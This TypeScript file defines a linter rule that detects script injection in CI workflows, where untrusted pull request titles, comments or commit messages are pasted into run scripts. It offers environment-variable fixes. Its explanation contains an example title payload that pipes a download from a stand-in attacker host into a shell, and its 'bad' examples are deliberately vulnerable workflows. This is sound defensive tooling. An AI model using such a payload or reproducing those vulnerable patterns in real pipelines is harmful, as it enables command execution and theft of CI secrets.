import { type Injection, type Pipeline, type Step, stepsOf } from "../model.ts";
import type { EditFix, Problem, Rule } from "../rule.ts";
import { contains } from "../text.ts";
import { pieceAt, throughEnvironment } from "../through-environment.ts";

/** Text that strangers choose and that becomes a part of a script before the script is read. */
export const scriptInjection: Rule = {
  id: "script-injection",
  severity: "warning",
  summary: "Text that strangers can choose is written into a script before it runs.",
  why:
    'The system puts the text into the script before a shell reads it, so a title such as `"; curl https://evil.example | sh; "` is no text any more ' +
    "but a command that runs with everything the step can read. As an environment variable in double quotes the same text stays text.",
  examples: [
    {
      title: "The title of a pull request",
      path: ".github/workflows/title.yml",
      bad: `on: pull_request_target
jobs:
  title:
    runs-on: ubuntu-latest
    steps:
      - name: Check the title
        run: |
          title="\${{ github.event.pull_request.title }}"
#                ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^
          [[ $title =~ ^(feat|fix): ]] || exit 1
`,
      good: `on: pull_request_target
jobs:
  title:
    runs-on: ubuntu-latest
    steps:
      - name: Check the title
        run: |
          title="$PULL_REQUEST_TITLE"
          [[ $title =~ ^(feat|fix): ]] || exit 1
        env:
          PULL_REQUEST_TITLE: \${{ github.event.pull_request.title }}
`,
    },
    {
      title: "A comment in a script of actions/github-script",
      path: ".github/workflows/comment.yml",
      bad: `on: issue_comment
jobs:
  answer:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/github-script@f28e40c7f34bde8b3046d885e986cb6290c5673b # v7.1.0
        with:
          script: |
            const words = "\${{ github.event.comment.body }}".split(" ");
#                          ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^
            core.info(words.length);
`,
      good: `on: issue_comment
jobs:
  answer:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/github-script@f28e40c7f34bde8b3046d885e986cb6290c5673b # v7.1.0
        with:
          script: |
            const words = process.env.COMMENT_BODY.split(" ");
            core.info(words.length);
        env:
          COMMENT_BODY: \${{ github.event.comment.body }}
`,
    },
    {
      title: "A branch that the upload of a pipeline puts in",
      path: ".woodpecker.yml",
      bad: `steps:
  - name: notify
    image: alpine:3.20
    commands:
      - ./notify "\${CI_COMMIT_MESSAGE}"
#                 ^^^^^^^^^^^^^^^^^^^^
`,
      good: `steps:
  - name: notify
    image: alpine:3.20
    commands:
      - ./notify "$$CI_COMMIT_MESSAGE"
`,
    },
    {
      title: "A variable of the environment is fine",
      path: ".github/workflows/title.yml",
      bad: `on: pull_request_target
jobs:
  title:
    runs-on: ubuntu-latest
    steps:
      - run: ./check-title "$TITLE"
        env:
          TITLE: \${{ github.event.pull_request.title }}
`,
    },
    {
      title: "What no event of the workflow brings is fine",
      path: ".github/workflows/nightly.yml",
      bad: `on: schedule
jobs:
  nightly:
    runs-on: ubuntu-latest
    steps:
      - run: echo "\${{ github.event.issue.title || 'no issue' }}"
`,
    },
  ],
  check: function* (pipeline) {
    for (const { step } of stepsOf(pipeline))
      for (const injection of step.injections ?? []) yield problem(pipeline, step, injection);
  },
};

function problem(pipeline: Pipeline, step: Step, injection: Injection): Problem {
  const { span, what, privileged } = injection;
  const danger = privileged
    ? "Whoever writes it can run commands here, with the secrets and the token of this run."
    : "Whoever writes it can run commands here.";
  const fix = environmentFix(pipeline, step, injection);
  const inCmd = step.scripts.some(({ shell, span: code }) => shell.language === "cmd" && contains(code, span));
  const cure =
    inCmd && fix === undefined
      ? "No quotes of cmd keep it from that: read the variable in PowerShell."
      : "Hand it over in the step's environment and write the variable in quotes.";
  return {
    span,
    message: `${what.charAt(0).toUpperCase()}${what.slice(1)} is pasted into the script before it runs. ${danger} ${cure}`,
    severity: privileged ? "warning" : "information",
    ...(fix && { fixes: [fix] }),
  };
}

function environmentFix(pipeline: Pipeline, step: Step, injection: Injection): EditFix | undefined {
  const expression = pipeline.text.slice(injection.span.start, injection.span.end);
  for (const script of step.scripts) {
    const span = pieceAt(pipeline.text, script, injection.span);
    if (span === undefined) continue;
    const { variable } = injection;
    // Where the system replaces parts of the whole file, a variable that the file defines would be no safer.
    if (variable === undefined && !script.holes.some((hole) => hole.span.start === span.start)) return undefined;
    const piece = { span, expression, name: nameIn(expression), ...(variable !== undefined && { variable }) };
    const made = throughEnvironment(step, script, [piece]);
    // What another program takes as code stays code, whichever way it comes there.
    if (made === undefined || made.code) return undefined;
    return { title: `Read it from ${made.names[0]} in the step's environment`, edits: made.edits };
  }
  return undefined;
}

/** The last two names of what an expression reads first: `ISSUE_TITLE` of `github.event.issue.title`. */
function nameIn(expression: string): string {
  const names = /[A-Za-z_][\w-]*(?:\s*\.\s*(?:\*|[A-Za-z_][\w-]*)|\[[^\]]*\])+/.exec(expression)?.[0] ?? expression;
  const words = names.split(/[^\w-]+/).filter((word) => /[A-Za-z]/.test(word) && word !== "github" && word !== "event");
  return words.length === 0 ? "EVENT" : words.slice(-2).join("_");
}
